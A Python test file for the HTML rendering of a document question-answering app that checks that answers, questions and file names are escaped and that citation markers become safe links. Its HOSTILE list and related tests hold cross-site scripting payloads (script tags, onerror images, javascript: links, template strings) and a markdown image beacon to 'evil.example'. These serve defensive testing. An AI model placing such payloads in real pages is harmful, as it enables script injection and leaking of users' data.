"""Answers as HTML: foreign text stays text, markers become links, doubts and the short answer are marked."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.app.links import Reference, link, parse_link
from qa.app.lists import documents_html, history_html, report_html
from qa.app.render import answer_html, inert, question_html, streaming_html
from qa.types import Answer, Citation, Record, Sentence, Short, Span, Usage
from qa.words import visible

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/leak?q=1)",
    "${alert(1)} `${alert(1)}` {{value}}",
    "[1](#cite/a.txt/0123456789abcdef/0-5)",
    "[click](javascript:alert(1))",
    "</div></p><h1>owned</h1>",
    "# heading\n\n    code\n\n```js\nalert(1)\n```",
    "http://evil.example www.evil.example a@evil.example",
    "x" * 10_000,
]

DETAILS = {"details", "summary", "dl", "dt", "dd"}


class Shape(HTMLParser):
    """The tags, the attributes and the text of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def citation(number: int = 1, *, title: str = "Lamps", quote: str = "It was lit in 1901.", start: int = 0) -> Citation:
    return Citation(
        number=number, document="a b/lamps.txt", title=title, start=start, end=start + len(quote), page=None,
        quote=quote, version="0123456789abcdef",
    )  # fmt: skip


def answered(text: str, *sentences: Sentence, citations: tuple[Citation, ...] = (), **rest: object) -> Answer:
    given = {"question": "When?", "query": "When?", "text": text, "abstained": False, **rest}
    return Answer(sentences=sentences, citations=citations, **given)  # type: ignore[arg-type]


@given(st.text())
def test_any_text_is_shown_as_itself_and_opens_no_tag(text: str) -> None:
    shape = Shape(inert(text.replace("\r", " ")))
    assert (shape.tags, shape.text) == ([], visible(text.replace("\r", " ")))


@given(st.text())
def test_inert_text_has_no_character_that_markdown_or_a_template_reads(text: str) -> None:
    assert not set(inert(text)) & set("<>\"'`$*_[](){}!|\\~/=+:.@-")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_answer_has_no_tags_but_ours(hostile: str) -> None:
    sentence = Sentence(text=hostile, citations=(1,), support="partly", reason=hostile)
    rest = {"notes": (hostile,), "query": hostile, "short": replace(YEAR, text=f"{hostile} [1]")}
    html = answer_html(answered(f"{hostile} [1]", sentence, citations=(citation(title=hostile),), **rest))
    shape = Shape(html)
    assert set(shape.tags) <= {"div", "p", "br", "a", "span", "button", *DETAILS}
    assert {name for name, _ in shape.attributes} <= {"class", "href", "title"}
    assert [value for name, value in shape.attributes if name == "href"] == [
        *[link(_reference(citation()))] * 2,
        "#why",
        link(_reference(citation())),
    ]
    assert "\n" not in html


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_question_document_or_file_name_is_text(hostile: str) -> None:
    record = Record(
        id=hostile, version="0123456789abcdef", title=hostile, root="/r", passages=1, chars=1, mirrored=True
    )
    for html in (
        question_html(hostile),
        documents_html([record], total=1),
        report_html(done="", failed=[(hostile, hostile)]),
    ):
        assert set(Shape(html).tags) <= {"div", "p", "br", "ul", "input", "li", "small", "a", "span", "button", "b"}
        assert " on" not in html.replace(" only", "").split(">")[0]


def test_a_marker_of_a_known_citation_is_a_link_and_any_other_is_text() -> None:
    html = streaming_html(answered("Lit in 1901 [1] and [2].", citations=(citation(),)), stage="Writing")
    assert Shape(html).attributes == [
        ("class", "answer writing"),
        ("class", "cite"),
        ("href", "#cite/a%20b%2Flamps.txt/0123456789abcdef/0-19"),
        ("title", "Lamps"),
        ("class", "stage"),
    ]
    assert Shape(html).text == "Lit in 1901 1 and [2].Writing"


def test_the_short_answer_is_bold_inside_its_sentence() -> None:
    sentence = Sentence(
        text="It was lit in 1901.", citations=(1,), support="supported", highlight=Span(start=14, end=18)
    )
    html = answer_html(answered("It was lit in 1901. [1]", sentence, citations=(citation(),)))
    assert "lit in <strong>1901</strong>&#46; <a" in html


YEAR = Short(text="1901", citation=1, start=14, end=18)


def test_the_short_answer_is_shown_first_with_its_source_and_stays_in_its_sentence() -> None:
    sentence = Sentence(
        text="It was lit in 1901.", citations=(1,), support="supported", highlight=Span(start=14, end=18)
    )
    answer = answered("It was lit in 1901. [1]", sentence, citations=(citation(),), short=YEAR)
    html = answer_html(answer)
    assert Shape(html).text.startswith("1901 1It was lit in 1901. 1")
    assert html.startswith('<div class="answer"><p class="short">1901 <a class="cite" href="#cite/')
    assert "<strong>1901</strong>" in html


def test_what_is_shown_of_an_answer_in_the_making_stays() -> None:
    sentence = Sentence(text="It was lit in 1901.", citations=(1,), support="supported")
    begun = answered("", citations=(citation(),), short=YEAR)
    texts = ("", "It was lit in 1901. [1]")
    shown = [Shape(streaming_html(replace(begun, text=text), stage="")) for text in texts]
    shown.append(Shape(answer_html(replace(begun, text="It was lit in 1901. [1]", sentences=(sentence,)))))
    for before, after in pairwise(shown):
        assert before.text
        assert after.text.startswith(before.text)


def test_a_sentence_that_is_the_short_answer_is_shown_once() -> None:
    sentence = Sentence(text="1901.", citations=(1,), support="supported", highlight=Span(start=0, end=4))
    answer = answered("1901. [1]", sentence, citations=(citation(quote="1901."),), short=replace(YEAR, start=0, end=4))
    assert Shape(answer_html(answer)).text.startswith("1901. 1")
    assert str(answer).startswith("1901. [1]\n\n[1] ")


@pytest.mark.parametrize(
    ("support", "words"),
    [("partly", "partly supported"), ("unsupported", "not supported"), ("contradicted", "contradicted")],
)
def test_a_sentence_in_doubt_is_marked_after_its_markers_with_the_reason(support: str, words: str) -> None:
    sentence = Sentence(text="It was lit in 1903.", citations=(1,), support=support, reason="1903 is not in [1]")  # type: ignore[arg-type]
    html = answer_html(answered("It was lit in 1903. [1] It shines.", sentence, citations=(citation(),)))
    assert f'<span class="doubt {support}">' in html
    assert html.index('class="cite"') < html.index('class="why')
    assert ("title", "1903 is not in [1]") in Shape(html).attributes
    assert words in Shape(html).text


def test_a_marker_inside_a_sentence_is_a_link_and_one_that_the_document_wrote_is_text() -> None:
    sentence = Sentence(text="Lit,[1] and 1901.", citations=(1, 2), support="partly", highlight=Span(start=12, end=16))
    html = answer_html(answered("Lit,[1] and [2] 1901. [1]", sentence, citations=(citation(), citation(2))))
    shape = Shape(html)
    assert [value for name, value in Shape(html.partition('<p class="sources">')[0]).attributes].count("cite") == 2
    assert shape.text.startswith("Lit,[1] and 2 1901. 1 partly supported")
    assert "<strong>1901</strong>" in html


def test_a_doubt_whose_sentence_cannot_be_placed_is_still_shown() -> None:
    sentence = Sentence(text="Something else.", citations=(), support="unsupported", reason="nothing is cited")
    assert ("title", "nothing is cited") in Shape(answer_html(answered("It was lit.", sentence))).attributes


def test_a_blank_line_begins_a_paragraph() -> None:
    first, second = (Sentence(text=text, citations=(), support="supported") for text in ("One.", "Two."))
    html = answer_html(answered("One.\n\nTwo.", first, second))
    assert "<p>One&#46;</p><p>Two&#46;</p>" in html


MARKDOWN = """# Sales

- **Sales rose.** [1]
- Costs fell.

| Team | Heads |
|---|---|
| Sales | 58 | [1]

```python
rows = [1]
```"""


def test_a_models_lists_tables_code_and_bold_are_drawn_with_a_verdict_for_each_statement() -> None:
    doubts = {
        "supported": ("Costs fell.",),
        "partly": ("**Sales rose.**",),
        "unsupported": ("| Sales | 58 |", "|---|---|"),
    }
    sentences = [
        Sentence(text=text, citations=(1,), support=support, reason="told")  # type: ignore[arg-type]
        for support, texts in doubts.items()
        for text in texts
    ]
    sentences.sort(key=lambda each: MARKDOWN.index(each.text))
    html = answer_html(answered(MARKDOWN, *sentences, citations=(citation(),), model="openai:gpt-test"))
    assert '<p class="heading">Sales</p><ul><li><b><span class="doubt partly">Sales rose&#46;</span></b> <a' in html
    assert "<li>Costs fell&#46;</li>" in html
    assert "<thead><tr><th>Team</th><th>Heads</th></tr></thead>" in html
    assert '<td><span class="doubt unsupported">Sales</span></td>' in html
    assert "rows &#61; " in html[html.index("<pre>") : html.index("</pre>")]
    assert html.count('class="why') == 2
    assert "\n" not in html


def test_what_documents_say_keeps_its_marks_but_for_lists_and_rows() -> None:
    steps, rows = "To calibrate:\n1. Wait.\n2. Go. [1]", "City: Oslo · Year: 1901 [1]\n\nCity: Bergen · Year: 1902"
    text = f"Add 5*3*2 or `x`.\n\n{steps}\n\n{rows}"
    row = Sentence(
        text="City: Oslo · Year: 1901", citations=(1,), support="supported", highlight=Span(start=19, end=23)
    )
    html = answer_html(answered(text, row, citations=(citation(),)))
    assert "Add 5*3*2 or `x`." in Shape(html).text
    assert "<p>To calibrate&#58;</p><ol><li>Wait&#46;</li><li>Go&#46; <a" in html
    assert html.count("<table>") == 1
    assert "<tr><th>City</th><th>Year</th></tr>" in html
    assert "<tr><td>Oslo</td><td><strong>1901</strong> <a" in html
    assert "<tr><td>Bergen</td><td>1902</td></tr>" in html


@pytest.mark.parametrize("hostile", [*HOSTILE, "⸨0⸩ ⸨99⸩", "> " * 300 + "x", "**" * 5_000, "[" * 5_000, "| " * 3_000])
def test_hostile_markdown_of_a_model_has_no_tags_but_ours(hostile: str) -> None:
    sentence = Sentence(text=hostile, citations=(1,), support="partly", reason="told")
    given = {"citations": (citation(),), "model": "openai:gpt-test"}
    shape = Shape(answer_html(answered(f"{hostile} [1]", sentence, **given)))  # type: ignore[arg-type]
    drawn = {"ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "pre", "code", "b", "em", "blockquote"}
    assert set(shape.tags) <= {"div", "p", "br", "a", "span", "button", *DETAILS, *drawn}
    assert {name for name, _ in shape.attributes} <= {"class", "href", "title", "start"}
    assert all(
        value == "#why" or value == link(_reference(citation())) for name, value in shape.attributes if name == "href"
    )


def test_an_abstention_shows_the_nearest_passages_as_links() -> None:
    nearest = Citation(
        document="a.txt", title="A", start=3, end=9, page=2, quote="words " * 60, version="0123456789abcdef"
    )
    answer = Answer(question="Why?", query="Why?", text="Not there.", abstained=True, nearest=(nearest,))
    shape = Shape(answer_html(answer))
    assert ("href", "#cite/a.txt/0123456789abcdef/3-9") in shape.attributes
    assert "The nearest passages are:" in shape.text
    assert "A, page 2" in shape.text
    assert "words …" in shape.text


def test_how_an_answer_came_about_stands_in_closed_details() -> None:
    answer = Answer(
        question="And when?",
        query="When was it lit?",
        queries=("When was it lit?", "Where?"),
        text="1901.",
        abstained=False,
        confidence=0.87,
        model="openai:gpt-test",
        prompt="answer/3",
        usage=Usage(input_tokens=1_200, output_tokens=30),
        seconds={"retrieve": 0.25},
    )
    face, _, details = answer_html(answer).partition("<details>")
    assert Shape(face).text == "1901.Try again"
    shown = Shape(details).text
    for told in (
        "Searched forWhen was it lit?; Where?", "Confidence87%", "Answered byopenai:gpt-test", "Promptanswer/3",
        "1,200 read, 30 written", "retrieve 0.25",
    ):  # fmt: skip
        assert told in shown


@pytest.mark.parametrize(
    ("note", "read"),
    [
        ("the model refused the key. Check OPENAI_API_KEY, or its like", "The model refused the key"),
        ("2 passages were left out: 4,096 tokens may be, see QA_CONTEXT_TOKENS", ""),
        ("2 more rows have no value there", "2 more rows have no value there"),
    ],
)
def test_a_note_is_read_up_to_what_only_the_operator_can_do(note: str, read: str) -> None:
    face, _, details = answer_html(answered("1901.", notes=(note,))).partition("<details>")
    assert Shape(face).text == f"1901.{read}Try again"
    assert (note in Shape(details).text) is (note != read)


def test_small_talk_is_shown_as_the_text_it_is() -> None:
    html = answer_html(answered("Hello.\n\nFor example:\n\n- Who is <b>?", talk=True))
    assert html == (
        '<div class="answer"><p>Hello&#46;</p><p>For example&#58;</p><ul><li>Who is &#60;b&#62;&#63;</li></ul></div>'
    )


def test_a_broken_off_answer_says_so() -> None:
    assert "broke off" in answer_html(answered("1901", incomplete=True))


def test_direction_controls_are_spelt_out() -> None:
    assert visible("cod\u202etxt.exe") == "cod‹U+202E›txt.exe"


@pytest.mark.parametrize(
    ("documents", "is_quoting", "may_upload", "told"),
    [
        (2, True, True, "There is no AI model: I answer in the documents' own sentences"),
        (2, False, True, "a language model may err"),
        (0, True, True, "Drop your documents here"),
        (0, True, False, "Who runs this page adds them: `qa ingest FOLDER`"),
    ],
)
def test_one_welcome_says_what_the_page_cannot_do_or_how_documents_come_to_it(
    documents: int, is_quoting: bool, may_upload: bool, told: str
) -> None:
    from qa.app.layout import welcome  # which imports Gradio, and this file is one of the quick tests

    assert told in welcome(documents=documents, is_quoting=is_quoting, may_upload=may_upload)


def test_no_conversation_and_no_document_say_what_to_do() -> None:
    assert "will be listed here" in history_html([], current="")
    assert "Add a file" in documents_html([], total=0)


@given(
    st.builds(
        Reference,
        document=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=80),
        version=st.from_regex(r"[0-9a-f]{16}", fullmatch=True),
        start=st.integers(0, 500),
        end=st.integers(500, 10**9),
    )
)
def test_a_citation_link_says_its_reference_and_nothing_else(reference: Reference) -> None:
    address = link(reference)
    assert parse_link(address) == reference
    assert not set(address) & set("\"'<>` \n")


@pytest.mark.parametrize(
    "address",
    [
        "", "#cite/", "#cite/a.txt/0123456789abcdef/9-3", "#cite/a.txt/xyz/0-3", "#cite/a.txt/0123456789abcdef/-1-3",
        "javascript:alert(1)", "#cite/a.txt/0123456789abcdef/0-3#", "#cite/a/b.txt/0123456789abcdef/0-3",
        "#cite/a.txt/0123456789abcdef/0-9999999999999",
    ],
)  # fmt: skip
def test_any_other_address_is_no_citation_link(address: str) -> None:
    assert parse_link(address) is None


def _reference(source: Citation) -> Reference:
    return Reference(document=source.document, version=source.version, start=source.start, end=source.end)


@pytest.mark.parametrize(
    ("words", "text", "links"),
    [
        ("It was lit in 1901 by Ada.", "It was lit [1] in 1901[1] [2] by Ada. [2]", 3),
        ("Lit,[7] then dark.", "Dark. Lit,[7] then [1][2] dark.", 2),
    ],
)
def test_a_sentence_is_found_whatever_markers_stand_inside_it(words: str, text: str, links: int) -> None:
    sentence = Sentence(text=words, citations=(1, 2), support="partly", reason="nobody is called Ada")
    html = answer_html(answered(text, sentence, citations=(citation(), citation(2)))).partition('<p class="sources">')[
        0
    ]
    inside = html[html.index('<span class="doubt') : html.rindex("</span>")]
    assert inside.count('class="cite"') == links


def test_below_an_answer_each_document_and_page_stands_once_with_its_numbers() -> None:
    cited = (citation(), citation(2), replace(citation(3), title="Oil", page=7))
    sentences = tuple(Sentence(text=text, citations=(1, 2, 3), support="supported") for text in ("Lit.",))
    html = answer_html(answered("Lit. [1][2][3]", *sentences, citations=cited))
    below = html.partition('<p class="sources">')[2].partition("</p>")[0]
    assert below.count('<span class="quote">') == 3  # for who copies it: they are not drawn
    drawn = re.sub(r'<span class="quote">.*?</span>', "", below)
    assert Shape(drawn).text == f"Sources: 12 {visible(citation().title)} · 3 Oil, page 7"


def test_a_number_of_a_document_keeps_its_sign() -> None:
    answer = Answer(question="q", query="q", text="- 5 °C\n- mild", abstained=False)
    drawn = unescape(answer_html(answer))
    assert "- 5 °C" in drawn
    assert "<li>mild" in drawn
